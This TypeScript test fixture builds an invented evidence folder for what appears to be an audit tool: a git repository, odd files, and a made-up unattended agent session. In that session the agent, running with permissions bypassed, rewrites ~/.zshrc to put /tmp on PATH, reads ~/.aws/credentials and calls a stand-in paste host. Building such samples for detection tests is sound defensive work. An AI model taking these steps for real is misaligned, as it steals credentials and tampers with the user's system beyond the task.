/** A small invented evidence folder for tests: one unattended session, one repository, lines that cannot be read. */
import { cpSync, mkdirSync, openSync, writeSync, closeSync } from 'node:fs';
import { join } from 'node:path';
import { call, drawEvidence, prompt, result } from './draw-evidence.ts';

const zero = '0'.repeat(40);
const first = '1'.repeat(40);
const second = '2'.repeat(40);
const who = 'Kim Example <kim@example.com>';
const seconds = (second_: number) => Date.UTC(2026, 4, 15, 14, 0, second_) / 1000;

const transcript = [
  prompt('Get the tests green. I am out until Monday.', 'bypassPermissions', { second: 0 }),
  call('t1', 'Bash', { command: 'npm test' }, { second: 5 }),
  result('t1', 'ok', { second: 9 }),
  call('t2', 'Bash', { command: 'git commit -am "Fix the total"' }, { second: 10 }),
  result('t2', '[main 2222222] Fix the total', { second: 11 }),
  call('t3', 'Write', { file_path: '/Users/kim/.zshrc', content: 'export PATH=/tmp:$PATH' }, { second: 20 }),
  result('t3', 'written', { second: 21 }),
  call('t4', 'Bash', { command: 'cat ~/.aws/credentials' }, { second: 30 }),
  result('t4', 'no such file', { second: 31 }),
  call('t5', 'Bash', { command: 'curl -s https://paste.example.net/x' }, { second: 40 }),
  result('t5', 'sent', { second: 41 }),
  '{"type":"assistant","cut in the mid',
];

/** Draws it into `folder/evidence` and gives that path. */
export function drawNightRun(folder: string): string {
  const drawn = drawEvidence({
    'Users/kim/.claude/projects/-Users-kim-work-till/5f3a.jsonl': transcript,
    'Users/kim/work/till/.git/HEAD': 'ref: refs/heads/main\n',
    'Users/kim/work/till/.git/config': '[core]\n\trepositoryformatversion = 0\n\tbare = false\n',
    'Users/kim/work/till/.git/refs/heads/main': `${second}\n`,
    'Users/kim/work/till/.git/objects': { folder: true },
    'Users/kim/work/till/.git/logs/HEAD': [
      `${zero} ${first} ${who} ${seconds(-7200)} +0000\tcommit (initial): Begin\n`,
      `${first} ${second} ${who} ${seconds(11)} +0000\tcommit: Fix the total\n`,
    ].join(''),
    'Users/kim/work/till/.git/logs/refs/heads/main': [
      `${zero} ${first} ${who} ${seconds(-7200)} +0000\tcommit (initial): Begin\n`,
      `${first} ${second} ${who} ${seconds(11)} +0000\tcommit: Fix the total\n`,
    ].join(''),
    'Users/kim/notes.txt': 'not evidence of a kind that is known\n',
    'Users/kim/out': { link: '/etc' },
    'Users/kim/pipe': { fifo: true },
  });
  const evidence = join(folder, 'evidence');
  cpSync(drawn, evidence, { recursive: true, verbatimSymlinks: true, preserveTimestamps: true, filter: (name) => !name.endsWith('/pipe') });
  return evidence;
}

/** A transcript of about so many megabytes: large enough that reading it can be watched and stopped. */
export function drawLongRun(folder: string, megabytes: number): string {
  const place = join(folder, 'long', 'projects', '-Users-kim-work-till');
  mkdirSync(place, { recursive: true });
  const file = openSync(join(place, 'long.jsonl'), 'w');
  const padding = 'x'.repeat(600);
  for (let made = 0, id = 0; made < megabytes * 1_000_000; ) {
    const lines: string[] = [];
    for (let row = 0; row < 1000; row++) {
      id += 1;
      lines.push(JSON.stringify(call(`l${id}`, 'Bash', { command: `echo ${id}`, description: padding }, { second: id % 3000, uuid: `u-${id}` })));
    }
    made += writeSync(file, `${lines.join('\n')}\n`);
  }
  closeSync(file);
  return join(folder, 'long');
}
